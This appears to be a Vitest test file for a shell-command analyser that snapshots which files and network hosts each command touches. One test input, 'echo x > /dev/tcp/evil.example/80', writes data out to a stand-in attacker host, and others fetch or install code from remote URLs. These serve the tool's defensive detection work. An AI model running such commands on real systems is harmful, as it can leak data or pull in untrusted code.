// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is shell text
import { describe, expect, it } from 'vitest';
import { all } from './shell.fixture.ts';

describe('files', () => {
  it('are those of redirections, from the directory in which they stand', () => {
    expect(
      all([
        'a > b >> c 2> d < e &> f &>> g >| h <> i 3>&1 2>&- >&j {fd}> k',
        'a > /dev/null 2>&1 < /dev/stdin > ./x/../y > ../z > /a/b/../c',
        'cd src && a > b; c > d',
        'cd src; a > b; c > /tmp/d',
        'cd src || exit; a > b',
        '(cd src && a > b); c > d; cd x | e > f; cd y & g > h',
        'cd /tmp && cd sub && cd .. && a > b && c > ../d',
        'cd; a > b',
        'cd $x && a > b && cd /y && c > d',
        'cd - && a > b; pushd x; c > d',
        'while x; do a > b; cd c; done; d > e',
        'bash -c "cd x && a > b"; c > d; eval "cd y" && e > f',
        'if cd x; then a > b; else c > d; fi; e > f',
        '! cd x || a > b',
        'echo x > /dev/tcp/evil.example/80',
        'a <<< b > c',
        './run.sh x; cd bin && ./tool; ../up; ~/bin/t; /usr/bin/env ls',
      ]),
    ).toMatchInlineSnapshot(`
      "$ a > b >> c 2> d < e &> f &>> g >| h <> i 3>&1 2>&- >&j {fd}> k
      a
      write /work/proj/b
      write /work/proj/c
      write /work/proj/d
      read /work/proj/e
      write /work/proj/f
      write /work/proj/g
      write /work/proj/h
      write /work/proj/i
      write /work/proj/j
      write /work/proj/k

      $ a > /dev/null 2>&1 < /dev/stdin > ./x/../y > ../z > /a/b/../c
      a (opaque)
      write /work/z

      $ cd src && a > b; c > d
      cd src
      a
      c (opaque)
      write /work/proj/src/b

      $ cd src; a > b; c > /tmp/d
      cd src
      a (opaque)
      c
      write /tmp/d

      $ cd src || exit; a > b
      cd src
      exit
      a (opaque)

      $ (cd src && a > b); c > d; cd x | e > f; cd y & g > h
      cd src
      a
      c
      cd x
      e
      cd y
      g
      write /work/proj/src/b
      write /work/proj/d
      write /work/proj/f
      write /work/proj/h

      $ cd /tmp && cd sub && cd .. && a > b && c > ../d
      cd /tmp
      cd sub
      cd ..
      a
      c (opaque)
      write /tmp/b

      $ cd; a > b
      cd
      a (opaque)

      $ cd $x && a > b && cd /y && c > d
      cd ?
      a (opaque)
      cd /y
      c
      write /y/d

      $ cd - && a > b; pushd x; c > d
      cd -
      a (opaque)
      pushd x
      c (opaque)

      $ while x; do a > b; cd c; done; d > e
      x
      a (opaque)
      cd c
      d (opaque)

      $ bash -c "cd x && a > b"; c > d; eval "cd y" && e > f
      [bash -c] cd x
      [bash -c] a
      c
      [eval] cd y
      e
      write /work/proj/x/b
      write /work/proj/d
      write /work/proj/y/f

      $ if cd x; then a > b; else c > d; fi; e > f
      cd x
      a
      c
      e (opaque)
      write /work/proj/x/b
      write /work/proj/d

      $ ! cd x || a > b
      cd x
      a
      write /work/proj/x/b

      $ echo x > /dev/tcp/evil.example/80
      echo x
      write /dev/tcp/evil.example/80
      host evil.example:80

      $ a <<< b > c
      a
      write /work/proj/c

      $ ./run.sh x; cd bin && ./tool; ../up; ~/bin/t; /usr/bin/env ls
      /work/proj/run.sh x
      cd bin
      /work/proj/bin/tool
      up (opaque)
      /home/ada/bin/t
      [env] ls"
    `);
  });
});

describe('hosts', () => {
  it('are those in literal words of programs that go to the network', () => {
    expect(
      all([
        'curl -sSL -o out.html https://Example.com:8443/a?b example.org/x --url=http://c.d "$URL"; curl https://a.$x/ ht*//b/',
        'wget -O - http://user:pw@host.example/x; curl -x http://proxy:3128 https://a.b',
        'git clone git@github.com:a/b.git; git fetch; git push https://x.example/r; git commit -m "https://not.example"',
        'ssh -p 22 me@box.example ls; scp a.txt box:/tmp; rsync -av x/ u@h.example:y',
        'echo https://not.example; npm install https://c.example/x.tgz; pip install git+https://d.example/y',
      ]),
    ).toMatchInlineSnapshot(`
      "$ curl -sSL -o out.html https://Example.com:8443/a?b example.org/x --url=http://c.d "$URL"; curl https://a.$x/ ht*//b/
      curl -sSL -o out.html "https://Example.com:8443/a?b" example.org/x --url=http://c.d ?
      curl ? ?
      host c.d
      host example.com:8443
      host example.org

      $ wget -O - http://user:pw@host.example/x; curl -x http://proxy:3128 https://a.b
      wget -O - http://user:pw@host.example/x
      curl -x http://proxy:3128 https://a.b
      host host.example
      host proxy:3128
      host a.b

      $ git clone git@github.com:a/b.git; git fetch; git push https://x.example/r; git commit -m "https://not.example"
      git clone git@github.com:a/b.git
      git fetch
      git push https://x.example/r
      git commit -m https://not.example
      host github.com
      host x.example

      $ ssh -p 22 me@box.example ls; scp a.txt box:/tmp; rsync -av x/ u@h.example:y
      ssh -p 22 me@box.example ls (opaque)
      scp a.txt box:/tmp
      rsync -av x/ u@h.example:y
      host box.example
      host box
      host h.example

      $ echo https://not.example; npm install https://c.example/x.tgz; pip install git+https://d.example/y
      echo https://not.example
      npm install https://c.example/x.tgz
      pip install git+https://d.example/y
      host c.example
      host d.example"
    `);
  });
});
